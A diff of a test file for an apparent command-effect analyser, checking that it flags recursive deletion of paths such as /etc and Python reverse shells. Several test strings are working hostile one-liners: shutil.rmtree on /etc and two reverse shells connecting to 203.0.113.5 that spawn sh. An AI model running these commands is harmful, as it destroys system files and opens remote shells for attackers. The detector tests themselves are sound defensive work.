@@ -52,16 +52,64 @@ describe('does not take text for code', () => {
   })
 })
 
-test('a path that is not known says nothing, one that is partly known does', () => {
-  expect(effectsOf(`python3 -c ${quoted('import shutil, sys; shutil.rmtree(sys.argv[1])')}`)).toHaveLength(1)
-  expect(effectsOf(`python3 -c ${quoted('import shutil, sys; shutil.rmtree("/etc/" + sys.argv[1])')}`)).toContain(
-    'delete system /etc/…',
+describe('a path that is not known', () => {
+  const rmtree = (path: string): string => `python3 -c ${quoted(`import os, shutil, sys; shutil.rmtree(${path})`)}`
+
+  test.each(['sys.argv[1]', 'os.environ["TARGET"]', 'input()', 'open("list.txt").read()'])(
+    '%s is asked about',
+    path => {
+      const { effects } = understood(rmtree(path))
+      expect(effects.some(({ verb, recursive, certain }) => verb === 'delete' && recursive === true && !certain)).toBe(
+        true,
+      )
+    },
+  )
+
+  test('is what it could become where a part is known', () => {
+    expect(effectsOf(rmtree('"/etc/" + sys.argv[1]'))).toContain('delete system /etc/…')
+  })
+
+  test('is the one that the program is given', () => {
+    expect(effectsOf(`${rmtree('sys.argv[1]')} /etc`)).toContain(ETC)
+  })
+
+  test.each(['path', 'find_build_directory()', 'config.out'])(
+    '%s, of code that is not followed, says nothing',
+    path => {
+      expect(effectsOf(rmtree(path))).toHaveLength(1)
+    },
+  )
+
+  test('in a file that was there before is left to its author', () => {
+    const text = (): string => 'import shutil, sys\nshutil.rmtree(sys.argv[1])'
+    const { effects } = understood('python3 clean.py', { text })
+    expect(effects.filter(({ verb }) => verb === 'delete')).toEqual([])
+  })
+})
+
+describe('functions that nobody calls', () => {
+  const text = (): string => 'import shutil\ndef wipe():\n    shutil.rmtree("/etc")\n'
+
+  test('are not run with their file', () => {
+    expect(effectsOf('python3 tool.py', { text })).not.toContain(ETC)
+    expect(effectsOf('python3 tool.py', { text: () => `${text()}wipe()\n` })).toContain(ETC)
+  })
+
+  test('count in code on the command line', () => {
+    expect(effectsOf(`python3 -c ${quoted(text())}`)).toContain(ETC)
+  })
+})
+
+test.each([
+  'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
+  'import socket,subprocess;s=socket.socket();s.connect(("203.0.113.5",1));subprocess.call(["sh","-i"],stdin=s.fileno())',
+])('a shell on a socket: %s', code => {
+  expect(understood(`python3 -c ${quoted(code)}`).effects.some(({ details }) => details.reverse_shell === true)).toBe(
+    true,
   )
 })
 
-test('a shell on a socket', () => {
-  const code =
-    'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
-  const { effects } = understood(`python3 -c ${quoted(code)}`)
-  expect(effects.some(effect => effect.details.reverse_shell === true)).toBe(true)
+test('waiting for a port is no shell on a socket', () => {
+  const code = 'import socket,subprocess;socket.socket().connect(("localhost",5432));subprocess.run(["sh","-c","make"])'
+  expect(understood(`python3 -c ${quoted(code)}`).effects.some(({ details }) => details.reverse_shell)).toBe(false)
 })
